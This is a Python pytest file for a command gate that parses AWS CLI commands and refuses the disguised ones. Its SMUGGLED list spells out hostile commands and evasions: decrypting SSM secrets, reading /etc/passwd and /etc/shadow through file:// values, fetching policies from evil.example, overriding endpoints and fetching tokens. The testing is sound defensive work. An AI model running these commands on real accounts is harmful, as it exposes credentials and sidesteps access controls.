"""Deny rules hold on the final API call, however the command spells it."""

import pytest

from bridge import commands
from bridge.errors import CommandRefused

SMUGGLED: list[tuple[str, str]] = [
    # decryption, every spelling
    (
        """aws ssm get-parameter --cli-input-json '{"Name": "/db", "WithDecryption": true}'""",
        "denied_operation",
    ),
    ("""aws ssm get-parameter --name /db --cli-input-json '{"WithDecryption": true}'""", "denied_operation"),
    ("""aws ssm get-parameter --name /db --cli-input-json='{"WithDecryption": 1}'""", "denied_operation"),
    ("""aws ssm get-parameters --cli-input-yaml '{Names: [a], WithDecryption: true}'""", "denied_operation"),
    ("aws ssm get-parameter --name /db --cli-input-yaml 'WithDecryption: yes'", "denied_operation"),
    ("aws ssm get-parameter --name /db --with-decryp", "denied_operation"),
    ("aws ssm get-parameter --with-decryption --name /db", "denied_operation"),
    ("aws ssm get-parameter --no-with-decryption --name /db --with-decryption", "denied_operation"),
    ("aws --region eu-west-1 ssm get-parameters-by-path --path / --with-decryption", "denied_operation"),
    ("aws ssm get-parameter-history --name /db --with-d", "denied_operation"),
    # local files, wherever the path stands
    ("aws s3 cp --recursive ./loot s3://bucket/", "local_file"),
    ("aws s3 cp --quiet s3://bucket/k /tmp/out", "local_file"),
    ("aws s3 sync --delete --exact-timestamps s3://bucket ./here", "local_file"),
    ("aws s3 mv --recursive s3://bucket/ /tmp/", "local_file"),
    (
        "aws iam create-virtual-mfa-device --virtual-mfa-device-name m --outfile /tmp/qr --bootstrap-method QRCodePNG",
        "local_file",
    ),
    (
        "aws s3api select-object-content --bucket b --key k --expression x --expression-type SQL "
        "--input-serialization '{}' --output-serialization '{}' /tmp/o",
        "not_supported",
    ),
    ("aws ssm put-parameter --name x --value file:///etc/passwd --type String", "local_file"),
    ("aws ssm put-parameter --name x --type String --value=fileb:///etc/shadow", "local_file"),
    # streaming output, found from the models
    ("aws lambda invoke --function-name f /tmp/out", "not_supported"),
    (
        "aws polly synthesize-speech --text hi --output-format mp3 --voice-id Joanna speech.mp3",
        "not_supported",
    ),
    ("aws s3api get-object-torrent --bucket b --key k t", "not_supported"),
    (
        "aws apigateway get-export --rest-api-id a --stage-name s --export-type swagger out.json",
        "not_supported",
    ),
    # values the CLI would download
    ("aws ec2 run-instances --image-id ami-1 --user-data https://169.254.169.254/latest/", "remote_file"),
    ("aws iam create-policy --policy-name p --policy-document http://evil.example/p.json", "remote_file"),
    # secrets returned by reads, found from the output shapes
    ("aws cognito-idp describe-user-pool-client --user-pool-id p --client-id c", "denied_operation"),
    (
        "aws lightsail get-relational-database-master-user-password --relational-database-name d",
        "denied_operation",
    ),
    ("aws secretsmanager get-random-password", "denied_operation"),
    ("aws sso-oidc create-token --client-id c --client-secret s --grant-type g", "denied_operation"),
    (
        "aws quicksight get-dashboard-embed-url --aws-account-id 1 --dashboard-id d --identity-type IAM",
        "denied_operation",
    ),
    ("aws kms generate-data-key-pair --key-id k --key-pair-spec RSA_2048", "denied_operation"),
    ("aws eks get-token --cluster-name c", "denied_operation"),
    ("aws ecr get-login-password", "denied_operation"),
    # what the CLI would not run
    ("aws ec2 describe-instances --frobnicate", "unknown_option"),
    ("aws ec2 describe-instances extra-operand", "unknown_option"),
    ("aws ssm get-parameter", "invalid_parameters"),
    ("aws ec2 descrbe-instances", "unknown_command"),
    ("aws notaservice list-things", "unknown_command"),
    ("aws eks update-kubeconfig --name c", "not_supported"),
    ("aws codeartifact login --tool pip --domain d --repository r", "not_supported"),
    # global options, wherever and however written
    ("aws ec2 describe-instances --reg moon-1x", "invalid_region"),
    ("aws ec2 describe-instances --endpoint=http://evil.example", "endpoint_not_allowed"),
]

ALLOWED: list[tuple[str, str, str]] = [
    ("aws ssm get-parameter --name /db --with-decryption --no-with-decryption", "read", "ssm:GetParameter"),
    ("""aws ssm get-parameter --cli-input-json '{"Name": "/db"}'""", "read", "ssm:GetParameter"),
    ("aws ec2 describe-instances --filters Name=tag:Env,Values=prod", "read", "ec2:DescribeInstances"),
    ("aws ec2 describe-instances --reg eu-west-1", "read", "ec2:DescribeInstances"),
    ("aws ec2 wait instance-running --instance-ids i-1", "read", ""),
    ("aws rds describe-db-instances", "read", "rds:DescribeDBInstances"),
    ("aws s3api head-object --bucket b --key k", "read", "s3:HeadObject"),
    (
        "aws logs start-query --log-group-name g --start-time 1 --end-time 2 --query-string x",
        "read",
        "logs:StartQuery",
    ),
    ("aws athena start-query-execution --query-string 'select 1'", "mutating", "athena:StartQueryExecution"),
    (
        "aws sqs receive-message --queue-url https://sqs.us-east-1.amazonaws.com/1/q",
        "mutating",
        "sqs:ReceiveMessage",
    ),
    ("aws ec2 create-tags --resources i-1 --tags Key=a,Value=b", "mutating", "ec2:CreateTags"),
    (
        "aws iam attach-role-policy --role-name r --policy-arn arn:aws:iam::aws:policy/X",
        "mutating",
        "iam:AttachRolePolicy",
    ),
    (
        "aws sns subscribe --topic-arn arn:aws:sns:us-east-1:1:t --protocol https --notification-endpoint https://h.example/",
        "mutating",
        "sns:Subscribe",
    ),
]


@pytest.mark.parametrize(("command", "code"), SMUGGLED)
def test_smuggled_parameters_are_judged_on_the_final_call(command: str, code: str) -> None:
    with pytest.raises(CommandRefused) as caught:
        commands.parse(command)
    assert caught.value.code == code, caught.value.message
    assert len(caught.value.message) > 20


@pytest.mark.parametrize(("command", "classification", "api_call"), ALLOWED)
def test_spellings_resolve_to_the_call_the_cli_makes(
    command: str, classification: str, api_call: str
) -> None:
    parsed = commands.parse(command)
    assert (parsed.classification, parsed.api_call) == (classification, api_call)


def test_final_parameters_merge_input_documents_as_the_cli_does() -> None:
    parsed = commands.parse("""aws ssm get-parameter --name /cli --cli-input-json '{"Name": "/doc"}'""")
    assert dict(parsed.parameters) == {"Name": "/cli"}  # the command line wins
    shorthand = commands.parse("aws ec2 describe-instances --filters Name=a,Values=b,c")
    assert shorthand.parameters["Filters"] == [{"Name": "a", "Values": ["b", "c"]}]


def test_one_warm_parser_judges_every_command_alike() -> None:
    """The CLI assumes one operation per process; the bridge's long-lived driver must not carry state over."""
    command = "aws ec2 accept-address-transfer --address 1.2.3.4"
    first = commands.parse(command)
    commands.parse(
        "aws ec2 modify-network-interface-attribute --network-interface-id eni-1 --source-dest-check"
    )
    commands.parse("aws ec2 modify-instance-attribute --instance-id i-1 --no-ebs-optimized")
    assert commands.parse(command) == first


def test_a_bad_global_option_value_is_named() -> None:
    with pytest.raises(CommandRefused) as caught:
        commands.parse("aws ec2 describe-instances --output yaml2")
    assert caught.value.code == "invalid_parameters"
    assert "--output" in caught.value.message and "json" in caught.value.message
